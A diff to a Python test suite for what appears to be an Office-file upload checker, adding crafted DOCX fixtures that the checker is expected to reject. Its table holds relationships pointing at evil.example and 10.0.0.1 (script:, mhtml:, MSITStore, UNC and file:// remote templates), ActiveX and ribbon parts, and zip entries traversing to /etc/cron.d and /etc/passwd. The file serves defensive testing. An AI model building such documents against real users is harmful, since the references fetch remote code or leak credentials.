@@ -74,12 +74,12 @@ def archive_with(name: str) -> bytes:
     return out.getvalue()
 
 
-def fetching(kind: str, target: str) -> bytes:
+def fetching(kind: str, target: str, mode: str = "External") -> bytes:
     """A document with a part at another machine."""
     relation = (
         '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
         f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
-        f'Target="{target}" TargetMode="External"/></Relationships>'
+        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
     )
     return office_file(**{"word___rels__settings.xml.rels": relation.encode()})
 
@@ -131,6 +131,33 @@ BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
     ),
     "object of the web": (lambda: fetching("oleObject", "HTTP://evil.example/x"), "elsewhere"),
     "frame of the web": (lambda: fetching("frame", "mhtml:https://evil.example/x"), "elsewhere"),
+    "object of a program that fetches": (
+        lambda: fetching("oleObject", "script:https://evil.example/x.sct"),
+        "elsewhere",
+    ),
+    "object of a library that fetches": (
+        lambda: fetching("oleObject", "mk:@MSITStore:\\\\10.0.0.1\\x.chm::/x.htm"),
+        "elsewhere",
+    ),
+    "template behind signs written otherwise": (
+        lambda: fetching("attachedTemplate", "%5C%5C10.0.0.1%5Cx%5Ct.dotm"),
+        "elsewhere",
+    ),
+    "template of a host's file": (
+        lambda: fetching("attachedTemplate", "file://10.0.0.1/t.dotm"),
+        "elsewhere",
+    ),
+    "picture of a network drive": (lambda: fetching("image", "\\\\10.0.0.1\\x\\p.png"), "elsewhere"),
+    "control": (lambda: fetching("control", "activeX/activeX1.xml", "Internal"), "controls"),
+    "ribbon of its own": (
+        lambda: office_file(
+            **{
+                "_rels__.rels": b'<Relationships><Relationship Id="r" Target="customUI/ui.xml" Type="http://'
+                b'schemas.microsoft.com/office/2007/relationships/ui/extensibility"/></Relationships>'
+            }
+        ),
+        "controls",
+    ),
     "macros": (lambda: office_file(**{"word__vbaProject.bin": b"x"}), "macros"),
     "part outside its folder": (lambda: archive_with("../../etc/cron.d/x"), "bomb"),
     "part at the root": (lambda: archive_with("/etc/passwd"), "bomb"),
@@ -212,9 +239,11 @@ def test_name_steers_nothing(given: str, kept: str) -> None:
         fetching("hyperlink", "https://sapar.example/"),
         fetching("attachedTemplate", "file:///C:/Users/Aigul/AppData/Templates/Normal.dotm"),
         fetching("attachedTemplate", "Normal.dotm"),
+        fetching("attachedTemplate", "C:\\Program Files\\Templates\\Letter 2.dotx"),
+        fetching("image", "https://sapar.example/logo.png"),
         office_file(document=b"<!-- made by an office program --><document/>"),
     ],
-    ids=["link", "own template", "named template", "remark"],
+    ids=["link", "own template", "named template", "local template", "pasted picture", "remark"],
 )
 def test_what_office_programs_write_is_taken(content: bytes) -> None:
     assert media_type(content) == DOCX
